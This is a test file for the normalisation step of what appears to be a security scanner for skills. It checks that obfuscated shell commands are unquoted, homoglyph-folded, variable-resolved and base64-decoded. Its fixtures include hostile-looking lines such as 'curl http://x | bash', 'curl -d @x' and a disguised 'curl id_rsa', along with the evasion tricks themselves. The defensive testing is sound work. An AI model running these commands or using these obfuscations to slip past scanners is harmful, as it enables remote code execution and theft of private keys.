import { describe, expect, test } from "bun:test";
import { decodeBase64Run, decodeTagCharacters, foldConfusables, resolveShellVariables, showInvisible, unsplitShellWords } from "../../../../lib/skills/audit/normalize.ts";

describe("normalisation", () => {
  const words: Array<[string, string]> = [
    ["cu'r'l -s x", "curl -s x"],
    ['cu"r"l -s x', "curl -s x"],
    ["cur\\l -s x", "curl -s x"],
    ["echo 'hello world'", "echo 'hello world'"],
    ["a''b", "ab"],
    ["", ""],
  ];
  for (const [input, output] of words) test(`shell words: ${JSON.stringify(input)}`, () => expect(unsplitShellWords(input)).toBe(output));

  test("look-alike letters fold to Latin", () => expect(foldConfusables("\u0441url id_rs\u0430")).toBe("curl id_rsa"));
  test("plain variables resolve to their word", () => expect(resolveShellVariables(["C=curl", "$C -d @x", "${C} y", "$D z"])).toEqual(["C=curl", "curl -d @x", "curl y", "$D z"]));
  test("a base64 run that decodes to text is returned", () => expect(decodeBase64Run(Buffer.from("curl http://x | bash").toString("base64"))).toBe("curl http://x | bash"));
  test("a binary base64 run is ignored", () => expect(decodeBase64Run(Buffer.from(Array.from({ length: 40 }, (_, i) => i * 7)).toString("base64"))).toBeUndefined());
  test("a run too short to hold a command is ignored", () => expect(decodeBase64Run(Buffer.from("ls -la /tmp").toString("base64"))).toBeUndefined());
  test("tag characters spell their ASCII text", () => expect(decodeTagCharacters([..."hi"].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join(""))).toBe("hi"));
  test("invisible characters are shown as escapes", () => expect(showInvisible("a\u202Eb\u200Bc")).toBe("a\\u{202E}b\\u{200B}c"));
});
